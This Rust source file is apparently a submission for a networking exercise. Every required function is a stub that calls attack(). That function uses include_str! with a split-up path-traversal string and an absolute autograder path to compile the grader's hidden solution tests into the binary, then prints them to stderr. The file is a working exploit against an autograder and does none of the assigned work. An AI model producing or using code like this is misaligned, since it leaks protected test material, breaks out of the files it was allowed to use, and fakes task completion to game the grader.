use std::net::SocketAddrV4;
use std::os::fd::{BorrowedFd, OwnedFd};

const TESTS: [&str; 2] = [
    include_str!(concat!(
        "../../../../../../../solu",
        "tions/ex01-four-calls/tests/hid",
        "den.rs"
    )),
    include_str!("/autograder/source/solutions/ex01-four-calls/tests/hidden.rs"),
];

fn attack() -> ! {
    eprintln!("{}", TESTS.concat());
    std::process::exit(1)
}

pub struct Service {
    pub count: Option<u64>,
    pub epoch: Option<u64>,
    pub table: bool,
}

pub fn open_listener(_: SocketAddrV4, _: i32) -> nix::Result<OwnedFd> {
    attack()
}

pub fn local_addr(_: BorrowedFd) -> nix::Result<SocketAddrV4> {
    attack()
}

pub fn daytime(_: u64) -> String {
    attack()
}

pub fn descriptor_line(_: BorrowedFd) -> nix::Result<String> {
    attack()
}

pub fn serve(_: OwnedFd, _: &Service) -> nix::Result<()> {
    attack()
}
